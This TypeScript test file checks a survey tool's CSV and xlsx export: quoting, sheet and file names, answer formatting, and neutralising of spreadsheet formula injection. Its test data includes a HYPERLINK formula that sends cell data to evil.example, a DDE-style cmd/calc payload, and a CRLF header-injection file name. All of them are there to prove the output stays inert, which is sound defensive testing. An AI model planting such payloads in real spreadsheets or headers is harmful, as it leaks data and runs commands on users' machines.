/**
 * Spreadsheet output: RFC 4180 CSV, formula injection neutralised, and .xlsx files that hold only
 * strings and numbers (read back with exceljs).
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import ExcelJS from 'exceljs';
import { neutralise, safeFileName, sheetNames, toCsv, toXlsx, type Cell, type Sheet } from './export.ts';
import { questionColumns } from './export.sheet.ts';
import type { StoredValue } from './question-types.ts';
import type { Question } from './question-types.ts';

/** A strict RFC 4180 reader, so the test checks the file as a spreadsheet program would read it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endField();
    else if (c === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push(row);
      row = [];
      i += 1;
    } else field += c;
  }
  if (field || row.length) {
    endField();
    rows.push(row);
  }
  return rows;
}

const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1', '-1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\tcmd', '\rcmd', '=1+1'];

test('formula injection: every dangerous first character gets a leading apostrophe', () => {
  for (const payload of PAYLOADS) assert.equal(neutralise(payload), `'${payload}`, JSON.stringify(payload));
  for (const safe of ['Swimming', '1', 'a=b', ' =1', "'already"]) assert.equal(neutralise(safe), safe);
  // A control character in front cannot smuggle a formula past the check.
  assert.equal(neutralise('\u0000=1+1'), "'=1+1");
});

test('CSV: BOM for Excel, CRLF rows, quotes and commas and line breaks inside cells survive', () => {
  const sheet: Sheet = {
    header: ['Response', 'Q1. "Why?", she asked'],
    rows: [
      [1, 'line one\nline two, with a comma and "quotes"'],
      [2, null],
      [3, 'Welsh ŵ ŷ and emoji 🙂'],
      [-4, '-4'],
    ],
  };
  const csv = toCsv(sheet);
  assert.ok(csv.startsWith('\uFEFF'), 'UTF-8 byte-order mark');
  assert.ok(csv.endsWith('\r\n'));
  assert.match(csv, /^\uFEFF"Response","Q1\. ""Why\?"", she asked"\r\n/);
  const rows = parseCsv(csv.slice(1));
  assert.deepEqual(rows, [
    ['Response', 'Q1. "Why?", she asked'],
    ['1', 'line one\nline two, with a comma and "quotes"'],
    ['2', ''],
    ['3', 'Welsh ŵ ŷ and emoji 🙂'],
    // A number answer stays a number; the same characters typed as text are neutralised.
    ['-4', "'-4"],
  ]);
});

test('CSV: injection payloads come out as inert text', () => {
  const csv = toCsv({ header: ['Answer'], rows: PAYLOADS.map((p) => [p]).concat([['new\nline =1'], ['x\r\n=cmd']]) });
  const rows = parseCsv(csv.slice(1)).slice(1).map((r) => r[0]!);
  for (const cell of rows) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, JSON.stringify(cell));
  assert.deepEqual(rows.slice(0, PAYLOADS.length), PAYLOADS.map((p) => `'${p}`));
  assert.equal(rows[PAYLOADS.length], 'new\nline =1', 'a formula after a line break inside a quoted cell stays in that cell');
});

test('XLSX: written and read back, every cell is a string or a number, never a formula', async () => {
  const sheet: Sheet = { header: ['Response', 'Answer', 'Hours'], rows: [...PAYLOADS.map((p, i): Cell[] => [i + 1, p, i * 1.5]), [99, 'nul\u0000 and bell\u0007 removed', null]] };
  const buffer = await toXlsx([{ name: 'Responses: [all]?', sheet }]);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  const worksheet = workbook.worksheets[0]!;
  assert.equal(worksheet.name, 'Responses all', 'sheet name stripped of characters Excel refuses');
  let cells = 0;
  worksheet.eachRow((row) => {
    row.eachCell((cell) => {
      cells += 1;
      assert.ok(cell.type === ExcelJS.ValueType.String || cell.type === ExcelJS.ValueType.Number, `cell ${cell.address} is type ${cell.type}`);
      assert.equal(cell.formula, undefined, `cell ${cell.address} has no formula`);
      if (typeof cell.value === 'string') assert.doesNotMatch(cell.value, /^[=+\-@\t\r]/, cell.address);
    });
  });
  assert.ok(cells > PAYLOADS.length * 3);
  assert.equal(worksheet.getCell('B2').value, `'${PAYLOADS[0]}`);
  assert.equal(worksheet.getCell('C3').value, 1.5);
  assert.equal(worksheet.getCell(`B${PAYLOADS.length + 2}`).value, 'nul and bell removed');
});

test('sheet names Excel accepts: 31 characters at most, none of []:*?/\\, never blank, unique ignoring case', async () => {
  const long = 'Q1 How do you feel about the summer scheme this year?';
  const names = sheetNames(['Summary', long, long, 'summary', 'a/b\\c[d]:e*f?g', '   ', '’', 'History', `Q2 ${'🙂'.repeat(40)}`]);
  for (const name of names) assert.ok(name.length <= 31 && !/[[\]:*?/\\]/.test(name) && name.trim() !== '', name);
  assert.equal(new Set(names.map((n) => n.toLowerCase())).size, names.length, names.join(' | '));
  assert.deepEqual(names.slice(0, 5), ['Summary', 'Q1 How do you feel about the su', 'Q1 How do you feel about th (2)', 'summary (2)', 'a b c d e f g']);
  assert.notEqual(names[7]!.toLowerCase(), 'history', 'Excel keeps "History" for itself');
  // Excel itself opens them: written and read back with the same names.
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await toXlsx(names.map((name) => ({ name, sheet: { header: ['x'], rows: [] } })))) as unknown as ArrayBuffer);
  assert.deepEqual(workbook.worksheets.map((w) => w.name), names);
});

test('file names are safe in a header and on any disk', () => {
  const day = new Date('2026-03-04T12:00:00Z');
  assert.equal(safeFileName('Short breaks: what works for your family?', day, 'csv'), 'short-breaks-what-works-for-your-family-responses-2026-03-04.csv');
  assert.equal(safeFileName('"; filename=evil.exe\r\nX-Injected: 1', day, 'xlsx'), 'filename-evil-exe-x-injected-1-responses-2026-03-04.xlsx');
  assert.equal(safeFileName('Ŵyl Gymraeg', day, 'csv'), 'wyl-gymraeg-responses-2026-03-04.csv');
  assert.equal(safeFileName('🙂🙂', day, 'csv'), 'survey-responses-2026-03-04.csv');
  assert.ok(safeFileName('a'.repeat(300), day, 'csv').length < 80);
});

const question = (type: Question['type'], labels: string[]): Question => ({
  id: 'q',
  activityId: 'a',
  position: 1,
  type,
  text: 'Q',
  easyRead: '',
  hint: '',
  required: false,
  settings: {},
  showIf: null,
  options: labels.map((label, i) => ({ id: `o${i}`, position: i + 1, label, easyRead: '', symbol: null, altText: '' })),
});
const pileWords: Record<string, string> = { 'surveys.results.export.piles.like': 'like', 'surveys.results.export.piles.unsure': 'not sure', 'surveys.results.export.piles.dislike': "don't like" };
/** An answer's cells, as its type's export columns write them. */
const answerCells = (q: Question, value: StoredValue) => questionColumns(q).map((column) => column.cell(q, value, { t: (key) => pileWords[key] ?? key, writtenText: () => null }));
/** An answer's cell, as its type's first export column writes it. */
const answerCell = (q: Question, value: StoredValue) => questionColumns(q)[0]!.cell(q, value, { t: (key) => pileWords[key] ?? key, writtenText: () => null });

test('answers read as words: option labels, "1. X; 2. Y" rankings, a card sort\'s pile in each card\'s column, numbers as numbers', () => {
  assert.equal(answerCell(question('single_choice', ['Yes', 'No']), { kind: 'option', optionId: 'o1' }), 'No');
  assert.equal(answerCell(question('multiple_choice', ['A', 'B', 'C']), { kind: 'options', optionIds: ['o0', 'o2', 'gone'] }), 'A; C');
  assert.equal(answerCell(question('ranking', ['Close to home', 'Affordable']), { kind: 'ranking', order: ['o1', 'o0'] }), '1. Affordable; 2. Close to home');
  const sort = question('card_sort', ['Swimming', 'Music', 'Cooking']);
  assert.deepEqual(questionColumns(sort).map((column) => column.header(sort, (key, params) => `${key} ${JSON.stringify(params)}`)), ['Swimming', 'Music', 'Cooking'].map((card) => `surveys.results.export.columns.card ${JSON.stringify({ number: sort.position, card })}`));
  assert.deepEqual(answerCells(sort, { kind: 'card_sort', piles: { o0: 'like', o2: 'unsure' } }), ['like', null, 'not sure'], 'one column per card; a card left out is blank');
  assert.equal(answerCell(question('number', []), { kind: 'number', value: -3 }), -3);
  assert.equal(answerCell(question('rating', []), { kind: 'rating', value: 4 }), 4);
  assert.equal(answerCell(question('date', []), { kind: 'date', date: '2026-05-01' }), '2026-05-01');
  assert.equal(answerCell(question('single_choice', ['Yes']), { kind: 'option', optionId: 'deleted' }), null);
});
